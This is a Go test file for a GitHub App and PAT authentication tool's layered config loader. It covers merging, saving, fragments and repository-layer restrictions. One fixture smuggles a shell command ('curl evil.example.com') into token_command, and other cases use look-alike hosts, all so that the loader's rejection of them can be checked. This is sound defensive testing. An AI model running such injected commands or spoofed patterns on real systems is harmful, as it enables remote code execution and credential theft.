@@ -0,0 +1,393 @@
+package config
+
+import (
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+)
+
+const (
+	testSystemLayer = `version: "1"
+github_apps:
+  - name: Org App
+    app_id: 1
+    installation_id: 10
+    private_key_source: filesystem
+    private_key_path: /etc/gh-app-auth/org-app.pem
+    patterns:
+      - github.com/myorg/
+retry:
+  max_attempts: 5
+`
+	testUserLayer = `version: "1"
+github_apps:
+  - name: Team App
+    app_id: 2
+    installation_id: 20
+    private_key_source: keyring
+    patterns:
+      - github.com/myorg/
+pats:
+  - name: personal
+    private_key_source: keyring
+    patterns:
+      - bitbucket.example.com/
+`
+)
+
+// setupLayers writes the system and user layers, and the repository layer
+// when given, and returns their paths
+func setupLayers(t *testing.T, repository string) (systemPath, userPath, repositoryPath string) {
+	t.Helper()
+	dir := t.TempDir()
+	systemPath = filepath.Join(dir, "system.yml")
+	userPath = filepath.Join(dir, "user", "config.yml")
+	repoDir := filepath.Join(dir, "repo")
+	repositoryPath = filepath.Join(repoDir, ".gh-app-auth.yml")
+
+	for path, content := range map[string]string{systemPath: testSystemLayer, userPath: testUserLayer} {
+		if err := os.MkdirAll(filepath.Dir(path), 0700); err != nil {
+			t.Fatalf("MkdirAll() error = %v", err)
+		}
+		if err := os.WriteFile(path, []byte(content), 0600); err != nil {
+			t.Fatalf("WriteFile() error = %v", err)
+		}
+	}
+	if err := os.MkdirAll(filepath.Join(repoDir, ".git"), 0700); err != nil {
+		t.Fatalf("MkdirAll() error = %v", err)
+	}
+	if repository != "" {
+		if err := os.WriteFile(repositoryPath, []byte(repository), 0600); err != nil {
+			t.Fatalf("WriteFile() error = %v", err)
+		}
+	}
+
+	t.Setenv("GH_APP_AUTH_SYSTEM_CONFIG", systemPath)
+	t.Setenv("GH_APP_AUTH_CONFIG", userPath)
+	t.Chdir(repoDir)
+	return systemPath, userPath, repositoryPath
+}
+
+func TestLoad_Layers(t *testing.T) {
+	systemPath, userPath, repositoryPath := setupLayers(t, `github_apps:
+  - app_id: 2
+    patterns:
+      - github.com/myorg/pinned-repo
+  - name: Not Configured Here
+    patterns:
+      - github.com/other/
+`)
+
+	cfg, err := Load()
+	if err != nil {
+		t.Fatalf("Load() error = %v", err)
+	}
+	if len(cfg.GitHubApps) != 2 || len(cfg.PATs) != 1 || cfg.Retry == nil {
+		t.Fatalf("Load() = %d apps, %d PATs, retry %v, want the layers merged",
+			len(cfg.GitHubApps), len(cfg.PATs), cfg.Retry)
+	}
+
+	orgApp, teamApp := &cfg.GitHubApps[0], &cfg.GitHubApps[1]
+	if got := cfg.AppOrigin(orgApp); got != (Origin{Layer: LayerSystem, Path: systemPath}) {
+		t.Errorf("AppOrigin(org app) = %v, want the system file", got)
+	}
+	if got := cfg.AppOrigin(teamApp); got != (Origin{Layer: LayerUser, Path: userPath}) {
+		t.Errorf("AppOrigin(team app) = %v, want the user file", got)
+	}
+	if got := cfg.PATOrigin(&cfg.PATs[0]); got.Layer != LayerUser {
+		t.Errorf("PATOrigin() = %v, want the user file", got)
+	}
+	wantPatterns := []string{"github.com/myorg/", "github.com/myorg/pinned-repo"}
+	if strings.Join(teamApp.Patterns, ",") != strings.Join(wantPatterns, ",") {
+		t.Errorf("team app patterns = %v, want %v", teamApp.Patterns, wantPatterns)
+	}
+	pinned := cfg.AppPatternOrigin(teamApp, "github.com/myorg/pinned-repo")
+	if pinned != (Origin{Layer: LayerRepository, Path: repositoryPath}) {
+		t.Errorf("AppPatternOrigin(pinned) = %v, want the repository file", pinned)
+	}
+
+	annotated, err := cfg.AnnotatedYAML()
+	if err != nil {
+		t.Fatalf("AnnotatedYAML() error = %v", err)
+	}
+	for _, want := range []string{
+		"# from system (" + systemPath + ")",
+		"# from user (" + userPath + ")",
+		"github.com/myorg/pinned-repo # from repository (" + repositoryPath + ")",
+	} {
+		if !strings.Contains(string(annotated), want) {
+			t.Errorf("AnnotatedYAML() missing %q:\n%s", want, annotated)
+		}
+	}
+}
+
+func TestSave_Layers(t *testing.T) {
+	_, userPath, _ := setupLayers(t, `github_apps:
+  - app_id: 2
+    patterns:
+      - github.com/myorg/pinned-repo
+`)
+
+	cfg, err := LoadOrCreate()
+	if err != nil {
+		t.Fatalf("LoadOrCreate() error = %v", err)
+	}
+	cfg.AddOrUpdateApp(&GitHubApp{
+		Name: "New App", AppID: 3, PrivateKeySource: PrivateKeySourceKeyring, Patterns: []string{"github.com/new/"},
+	})
+	if err := cfg.Save(); err != nil {
+		t.Fatalf("Save() error = %v", err)
+	}
+
+	data, err := os.ReadFile(userPath)
+	if err != nil {
+		t.Fatalf("ReadFile() error = %v", err)
+	}
+	saved := string(data)
+	for _, want := range []string{"Team App", "New App", "personal"} {
+		if !strings.Contains(saved, want) {
+			t.Errorf("user file missing %q:\n%s", want, saved)
+		}
+	}
+	for _, unwanted := range []string{"Org App", "pinned-repo", "max_attempts"} {
+		if strings.Contains(saved, unwanted) {
+			t.Errorf("user file contains %q from another layer:\n%s", unwanted, saved)
+		}
+	}
+
+	// A changed system entry is written to the user file, where it overrides
+	cfg.GitHubApps[0].Patterns = append(cfg.GitHubApps[0].Patterns, "github.com/myorg-mirror/")
+	if err := cfg.Save(); err != nil {
+		t.Fatalf("Save() error = %v", err)
+	}
+	reloaded, err := Load()
+	if err != nil {
+		t.Fatalf("Load() error = %v", err)
+	}
+	if got := reloaded.AppOrigin(&reloaded.GitHubApps[0]); got.Layer != LayerUser {
+		t.Errorf("AppOrigin() after override = %v, want the user file", got)
+	}
+	if len(reloaded.GitHubApps[0].Patterns) != 2 {
+		t.Errorf("overridden app patterns = %v, want the change kept", reloaded.GitHubApps[0].Patterns)
+	}
+}
+
+func TestLoadSave_DuplicateEntriesInOneFile(t *testing.T) {
+	_, userPath, _ := setupLayers(t, "")
+	// The same app and installation serving two organizations, and two PATs
+	// sharing a name, are kept rather than collapsed into the last one
+	duplicates := `version: "1"
+github_apps:
+  - name: Shared App A
+    app_id: 5
+    installation_id: 0
+    private_key_source: keyring
+    patterns:
+      - github.com/org-a/
+  - name: Shared App B
+    app_id: 5
+    installation_id: 0
+    private_key_source: keyring
+    patterns:
+      - github.com/org-b/
+pats:
+  - name: personal
+    private_key_source: keyring
+    patterns:
+      - bitbucket.example.com/
+  - name: personal
+    private_key_source: keyring
+    patterns:
+      - gitlab.example.com/
+`
+	if err := os.WriteFile(userPath, []byte(duplicates), 0600); err != nil {
+		t.Fatalf("WriteFile() error = %v", err)
+	}
+
+	cfg, err := LoadOrCreate()
+	if err != nil {
+		t.Fatalf("LoadOrCreate() error = %v", err)
+	}
+	// The system file's Org App comes first
+	if len(cfg.GitHubApps) != 3 || len(cfg.PATs) != 2 {
+		t.Fatalf("LoadOrCreate() = %d apps, %d PATs, want 3 and 2", len(cfg.GitHubApps), len(cfg.PATs))
+	}
+
+	cfg.AddOrUpdateApp(&GitHubApp{
+		Name: "New App", AppID: 3, PrivateKeySource: PrivateKeySourceKeyring, Patterns: []string{"github.com/new/"},
+	})
+	if err := cfg.Save(); err != nil {
+		t.Fatalf("Save() error = %v", err)
+	}
+
+	data, err := os.ReadFile(userPath)
+	if err != nil {
+		t.Fatalf("ReadFile() error = %v", err)
+	}
+	wants := []string{"Shared App A", "Shared App B", "bitbucket.example.com/", "gitlab.example.com/", "New App"}
+	for _, want := range wants {
+		if !strings.Contains(string(data), want) {
+			t.Errorf("user file missing %q after Save():\n%s", want, data)
+		}
+	}
+}
+
+func TestLoad_RepositoryLayerRestrictions(t *testing.T) {
+	tests := []struct {
+		name       string
+		repository string
+		wantErr    string
+	}{
+		{
+			name: "commands are not allowed",
+			repository: `pats:
+  - name: personal
+    token_command:
+      args: [sh, -c, "curl evil.example.com"]
+`,
+			wantErr: "token_command",
+		},
+		{
+			name: "patterns must narrow the entry's",
+			repository: `github_apps:
+  - app_id: 2
+    patterns:
+      - evil.example.com/
+`,
+			wantErr: "not within the entry's patterns",
+		},
+		{
+			name: "patterns may not name a sibling organization",
+			repository: `github_apps:
+  - app_id: 2
+    patterns:
+      - github.com/myorg-evil/repo
+`,
+			wantErr: "not within the entry's patterns",
+		},
+		{
+			name: "patterns may not name a look-alike host",
+			repository: `github_apps:
+  - app_id: 2
+    patterns:
+      - https://github.com.evil.net/myorg/repo
+`,
+			wantErr: "not within the entry's patterns",
+		},
+		{
+			name: "entries need a name or app ID",
+			repository: `github_apps:
+  - patterns:
+      - github.com/myorg/repo
+`,
+			wantErr: "name or app_id is required",
+		},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			setupLayers(t, tt.repository)
+			_, err := Load()
+			if err == nil || !strings.Contains(err.Error(), tt.wantErr) {
+				t.Errorf("Load() error = %v, want %q", err, tt.wantErr)
+			}
+		})
+	}
+}
+
+func TestNarrowsAny(t *testing.T) {
+	tests := []struct {
+		pattern  string
+		existing []string
+		want     bool
+	}{
+		{"github.com/myorg/repo", []string{"github.com/myorg/*"}, true},
+		{"https://github.com/myorg/repo", []string{"github.com/myorg/"}, true},
+		{"github.com/myorg/repo", []string{"https://github.com"}, true},
+		{"github.com.evil.net/x", []string{"github.com"}, false},
+		{"github.com.evil.net/x", []string{"https://github.com/*"}, false},
+		{"github.com/myorg-evil", []string{"github.com/myorg"}, false},
+		{"github.com/myorg-evil/repo", []string{"github.com/myorg/*"}, false},
+		{"github.com/other/repo", []string{"github.com/myorg/", "bitbucket.example.com/"}, false},
+	}
+	for _, tt := range tests {
+		if got := narrowsAny(tt.pattern, tt.existing); got != tt.want {
+			t.Errorf("narrowsAny(%q, %v) = %v, want %v", tt.pattern, tt.existing, got, tt.want)
+		}
+	}
+}
+
+func TestLoad_Fragments(t *testing.T) {
+	_, userPath, _ := setupLayers(t, "")
+	fragmentsDir := filepath.Join(filepath.Dir(userPath), FragmentsDirName)
+	if err := os.MkdirAll(fragmentsDir, 0700); err != nil {
+		t.Fatalf("MkdirAll() error = %v", err)
+	}
+	fragments := map[string]string{
+		// Later fragments replace earlier ones' entries
+		"10-puppet.yml": `github_apps:
+  - name: Puppet App
+    app_id: 4
+    installation_id: 40
+    private_key_source: filesystem
+    private_key_path: /etc/puppet/app.pem
+    patterns:
+      - github.com/infra/
+`,
+		"20-ansible.json": `{"github_apps": [{"name": "Ansible App", "app_id": 4, "installation_id": 40,
+  "private_key_source": "filesystem", "private_key_path": "/etc/ansible/app.pem",
+  "patterns": ["github.com/infra/"]}],
+ "pats": [{"name": "deploy", "private_key_source": "keyring", "patterns": ["gitlab.example.com/"]}]}`,
+		"notes.txt": "not a fragment",
+	}
+	for name, content := range fragments {
+		if err := os.WriteFile(filepath.Join(fragmentsDir, name), []byte(content), 0600); err != nil {
+			t.Fatalf("WriteFile() error = %v", err)
+		}
+	}
+	ansiblePath := filepath.Join(fragmentsDir, "20-ansible.json")
+
+	cfg, err := LoadOrCreate()
+	if err != nil {
+		t.Fatalf("LoadOrCreate() error = %v", err)
+	}
+	var fragmentApp *GitHubApp
+	for i := range cfg.GitHubApps {
+		if cfg.GitHubApps[i].AppID == 4 {
+			fragmentApp = &cfg.GitHubApps[i]
+		}
+	}
+	if fragmentApp == nil || fragmentApp.Name != "Ansible App" {
+		t.Fatalf("Load() apps = %+v, want the last fragment's app 4", cfg.GitHubApps)
+	}
+	if got := cfg.AppOrigin(fragmentApp); got != (Origin{Layer: LayerFragment, Path: ansiblePath}) {
+		t.Errorf("AppOrigin(fragment app) = %v, want %s", got, ansiblePath)
+	}
+	if len(cfg.PATs) != 2 {
+		t.Errorf("Load() PATs = %+v, want the user and fragment PATs", cfg.PATs)
+	}
+
+	// Saving writes only the user file and leaves the fragments alone
+	cfg.AddOrUpdateApp(&GitHubApp{
+		Name: "New App", AppID: 3, PrivateKeySource: PrivateKeySourceKeyring, Patterns: []string{"github.com/new/"},
+	})
+	if err := cfg.Save(); err != nil {
+		t.Fatalf("Save() error = %v", err)
+	}
+	data, err := os.ReadFile(userPath)
+	if err != nil {
+		t.Fatalf("ReadFile() error = %v", err)
+	}
+	for _, unwanted := range []string{"Ansible App", "Puppet App", "deploy"} {
+		if strings.Contains(string(data), unwanted) {
+			t.Errorf("user file contains %q from a fragment:\n%s", unwanted, data)
+		}
+	}
+	for name, content := range fragments {
+		data, err := os.ReadFile(filepath.Join(fragmentsDir, name))
+		if err != nil || string(data) != content {
+			t.Errorf("fragment %s changed by Save(): %q, %v", name, data, err)
+		}
+	}
+}